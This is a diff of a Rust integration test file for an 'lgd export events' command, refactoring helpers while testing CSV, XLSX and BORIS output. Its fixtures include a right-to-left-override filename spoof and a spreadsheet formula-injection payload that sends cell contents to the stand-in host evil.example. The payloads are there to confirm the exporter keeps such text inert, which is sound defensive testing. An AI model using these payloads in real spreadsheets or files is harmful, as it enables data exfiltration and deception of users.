@@ -1,11 +1,14 @@
 //! `lgd export events` on the real binary: the tidy log keeps every count, hostile text stays inert
 //! in CSV and XLSX, and the BORIS project has the shape BORIS writes.
 
+mod common;
+
 use std::collections::BTreeMap;
-use std::path::{Path, PathBuf};
-use std::process::{Command, Output};
+use std::path::Path;
 
 use calamine::{Data, Reader, Xlsx, open_workbook};
+use common::day::save_as;
+use common::run;
 use lgd_observer::catalog::{Catalog, demo_event};
 use lgd_observer::clock::{Clock, ManualClock};
 use lgd_observer::export::{Cell, Sheet, write_csv_folder, write_xlsx};
@@ -24,14 +27,6 @@ const HOSTILE: &[(&str, &str)] = &[
     ("P26", "\u{202E}gnp.exe Budi"),
 ];
 const HOSTILE_NOTE: &str = "=HYPERLINK(\"http://evil.example/\"&A1,\"klik\")";
-
-fn lgd() -> Command {
-    Command::new(env!("CARGO_BIN_EXE_lgd"))
-}
-
-fn run(args: &[&std::ffi::OsStr]) -> Output {
-    lgd().args(args).output().expect("runs")
-}
 
 fn hostile_event() -> Event {
     let mut ev = demo_event().expect("demo");
@@ -128,20 +123,13 @@ fn day(ev: &Event, observer: &str, steps: u64, open_turn: bool) -> DayRecord {
     d
 }
 
-fn write_day(dir: &Path, name: &str, d: &DayRecord) -> PathBuf {
-    let path = dir.join(name);
-    std::fs::create_dir_all(dir).expect("dir");
-    std::fs::write(&path, serde_json::to_string_pretty(d).expect("ser")).expect("write");
-    path
-}
-
 /// Two observers' day files in a folder tree, plus files that are not day files.
 fn fixture(dir: &Path) -> Vec<DayRecord> {
     let ev = hostile_event();
     let a = day(&ev, "A01", 60, false);
     let b = day(&ev, "A03", 45, true);
-    write_day(&dir.join("usb/A01"), "tangsel-2026_A01.json", &a);
-    write_day(&dir.join("usb/A03"), "tangsel-2026_A03.json", &b);
+    save_as(&dir.join("usb/A01"), &a, "tangsel-2026_A01.json");
+    save_as(&dir.join("usb/A03"), &b, "tangsel-2026_A03.json");
     std::fs::write(
         dir.join("usb/event.json"),
         lgd_observer::catalog::DEMO_EVENT_JSON,
@@ -178,7 +166,7 @@ fn tidy_csv_keeps_every_count_of_the_day_files() {
     let tmp = tempfile::tempdir().expect("tmp");
     let days = fixture(tmp.path());
     let out = tmp.path().join("events.csv");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().join("usb").as_os_str(),
@@ -252,7 +240,7 @@ fn hostile_text_stays_inert_in_the_tidy_csv() {
     let tmp = tempfile::tempdir().expect("tmp");
     fixture(tmp.path());
     let out = tmp.path().join("events.csv");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().join("usb").as_os_str(),
@@ -299,7 +287,7 @@ fn hostile_text_stays_inert_in_xlsx_with_no_formula() {
     let tmp = tempfile::tempdir().expect("tmp");
     fixture(tmp.path());
     let out = tmp.path().join("events.xlsx");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().join("usb").as_os_str(),
@@ -376,7 +364,7 @@ fn boris_project_has_the_keys_and_event_shape_boris_writes() {
     let tmp = tempfile::tempdir().expect("tmp");
     let days = fixture(tmp.path());
     let out = tmp.path().join("lgd.boris");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().join("usb").as_os_str(),
@@ -387,7 +375,7 @@ fn boris_project_has_the_keys_and_event_shape_boris_writes() {
     ]);
     assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
     let text = std::fs::read_to_string(&out).expect("read");
-    let piped = run(&[
+    let piped = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().join("usb").as_os_str(),
@@ -527,7 +515,7 @@ fn unusable_inputs_stop_the_export_and_records_are_never_overwritten() {
     fixture(tmp.path());
     let day_file = tmp.path().join("usb/A01/tangsel-2026_A01.json");
     let before = std::fs::read(&day_file).expect("read");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         day_file.as_os_str(),
@@ -541,7 +529,7 @@ fn unusable_inputs_stop_the_export_and_records_are_never_overwritten() {
 
     let event_file = tmp.path().join("usb/event.json");
     let out = tmp.path().join("x.csv");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         event_file.as_os_str(),
@@ -556,7 +544,7 @@ fn unusable_inputs_stop_the_export_and_records_are_never_overwritten() {
         "{\"format\": \"lgd-day\",",
     )
     .expect("w");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().join("usb").as_os_str(),
@@ -624,7 +612,7 @@ fn changes_still_in_the_journal_are_exported() {
     assert!(on_disk.acts.is_empty(), "the acts are only in the journal");
 
     let out = tmp.path().join("events.csv");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().as_os_str(),
@@ -642,11 +630,11 @@ fn changes_still_in_the_journal_are_exported() {
 fn a_damaged_day_file_is_read_from_its_backup_with_a_note() {
     let tmp = tempfile::tempdir().expect("tmp");
     let d = day(&hostile_event(), "A01", 20, false);
-    let path = write_day(tmp.path(), "tangsel-2026_A01.json", &d);
+    let path = save_as(tmp.path(), &d, "tangsel-2026_A01.json");
     std::fs::copy(&path, DayPaths::of(&path).bak).expect("backup");
     std::fs::write(&path, "{\"format\": \"lgd-day\", \"acts\": [").expect("tear");
     let out = tmp.path().join("events.csv");
-    let o = run(&[
+    let o = run([
         "export".as_ref(),
         "events".as_ref(),
         tmp.path().as_os_str(),
